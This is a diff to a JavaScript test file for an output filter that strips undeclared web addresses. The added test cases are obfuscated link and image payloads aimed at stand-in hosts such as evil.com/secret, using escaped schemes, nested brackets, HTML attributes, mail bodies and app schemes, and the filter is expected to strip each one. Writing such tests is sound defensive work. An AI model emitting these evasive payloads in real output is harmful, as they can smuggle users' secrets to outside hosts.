@@ -54,6 +54,26 @@ describe("row 117: an address that nobody declared does not go out", () => {
     ["two in one", "https://docs.acme.example/https://evil.example [https://evil.example/secret](https://docs.acme.example/)"],
     ["our own marks", "\uFDD00\uFDD1 https://evil.example/secret"],
     ["upper case", "HTTPS://EVIL.EXAMPLE/secret"],
+    ["an escaped address, and a title with an escaped quote", '![x](https\\://evil.com/secret "a\\"b")'],
+    ["an escaped address in brackets, escaped", "![x](<https\\://evil.com/\\>secret>)"],
+    ["a name in brackets in brackets", "![a [b [c]]](\\/\\/evil.com/secret)"],
+    ["a very long name", `![${"x".repeat(1_100)}](\\/\\/evil.com/secret)`],
+    ["a link in the name of a link", "[a [x](\\/\\/evil.com/secret) b](https://docs.acme.example/)"],
+    ["a definition in a list", "[a]\n\n- [a]: https\\://evil.com/secret"],
+    ["a definition in a quote", "> [a]:\n> \\/\\/evil.com/secret\n\n[a]"],
+    ["a definition with an escaped name", "[a\\]b]: \\/\\/evil.com/secret"],
+    ["a sign in front of a name", "\\evil.com/secret -evil.com/secret"],
+    ["marks of emphasis in an address", "https**:**//evil.com/secret evil.**com**/secret ev_il.com_/secret"],
+    ["marks of code in an address", "`x`https`:`//evil.com/secret"],
+    ["tags in an address", "https<b>:</b>//evil.com/secret evil.<i>com</i>/secret"],
+    ["any ending that there is", "evil.accountants/secret secret.evil.click www.evil.nowhere/secret"],
+    ["an ending that files have, with a name before it", "secret.evil.sh secret.evil.ai"],
+    ["somebody before a name", "x:y@evil.com/secret ab@evil.com/secret?x docs.acme.example:x@evil.com/secret"],
+    ["a mail with a text", "ada@evil.com?body=secret"],
+    ["attributes of any tag", '<p style="background:url(\\2f/evil.com/secret)">x</p> <q cite=/\\evil.com/secret>'],
+    ["other brackets", "{//evil.com/secret} |//evil.com/secret|"],
+    ["an entity, and one that hides a name elsewhere", "docs.acme.example&#49; https&colon;//evil.com/secret"],
+    ["schemes that open programs", "xmpp:evil.com?secret sip:secret@evil.com tg:resolve?domain=secret"],
   ])("%s", (name, text) => {
     const { text: out, stripped } = filter(text);
     expect(stripped.length).toBeGreaterThan(0);
@@ -79,6 +99,18 @@ describe("row 117: an address that nobody declared does not go out", () => {
     ["comparisons", "a < b && c > d, x <- y", "a < b && c > d, x <- y"],
     ["entities that spell nothing", "5 &lt; 6 &amp; 7", "5 &lt; 6 &amp; 7"],
     ["other scripts", "می‌خواهم 👩‍👩‍👧 किताब", "می‌خواهم 👩‍👩‍👧 किताब"],
+    [
+      "names of files with several dots",
+      "net.test.py, x86.min.js, lib.tar.gz, a.d.ts, main.go",
+      "net.test.py, x86.min.js, lib.tar.gz, a.d.ts, main.go",
+    ],
+    ["an address with marks in it", "**https://docs.acme.example/a_b_c** `npm_x`", "**https://docs.acme.example/a_b_c** `npm_x`"],
+    ["identifiers", "`self.id_token`, __init__.py, a_b.c_d, x.y_z", "`self.id_token`, __init__.py, a_b.c_d, x.y_z"],
+    [
+      "an address, without the signs at which some readers end it and begin another",
+      "https://docs.acme.example/(https://evil.com/) https://docs.acme.example/'https://evil.com/",
+      "https://docs.acme.example/%28https://evil.com/%29 https://docs.acme.example/%27https://evil.com/",
+    ],
     ["times and ratios", "at 10:30, 3:1, key:value, Note: this", "at 10:30, 3:1, key:value, Note: this"],
   ])("stays: %s", (_, text, wanted) => {
     const { text: out } = filter(text);
